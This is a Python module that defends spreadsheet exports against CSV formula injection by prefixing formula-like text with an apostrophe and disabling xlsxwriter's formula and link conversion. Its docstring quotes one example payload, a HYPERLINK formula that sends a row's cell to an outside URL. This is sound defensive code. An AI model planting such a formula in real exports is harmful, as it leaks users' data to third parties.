"""Cells of the files people open in a spreadsheet program (CSV and xlsx downloads, the audit
log, the rejected rows of an upload, templates): text never runs as a formula there.

A pilot's name, a note or an uploaded cell is written by someone else; in a CSV, a cell starting
with `=`, `+`, `-` or `@` (or a tab or carriage return before one) is a formula to Excel and
WPS, and `=HYPERLINK("http://…?d="&B3, "Open")` sends the row wherever it likes. So such text is
written with a leading apostrophe (OWASP's "CSV injection" advice: Excel shows the text, not the
apostrophe), and xlsx files are written with text as text (`XLSX_OPTIONS`). Numbers stay numbers:
a negative number, or text that is one ("-12.5", "-3%"), is left as it is.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

import pandas as pd

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"^[+-]?(\d[\d,]*(\.\d*)?|\.\d+)([eE][+-]?\d+)?%?$")
# xlsxwriter turns strings that look like formulas into formulas, and addresses into links.
XLSX_OPTIONS = {"strings_to_formulas": False, "strings_to_urls": False, "strings_to_numbers": False}


def neutral(value: object) -> object:
    """The value as a spreadsheet cell that cannot run: text starting with a formula character
    gets a leading apostrophe; anything else, numbers included, is returned as it is."""
    if isinstance(value, str) and value.startswith(TRIGGERS) and not _NUMBER.match(value.strip()):
        return "'" + value
    return value


def neutral_row(row: Iterable[object]) -> list[object]:
    return [neutral(v) for v in row]


def neutral_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy with every text cell and header neutral; number columns untouched."""
    out = frame.copy()
    for column in out.columns:
        if out[column].dtype == object or pd.api.types.is_string_dtype(out[column]):
            out[column] = out[column].map(neutral)
    return out.rename(columns={c: neutral(c) for c in out.columns if isinstance(c, str)})
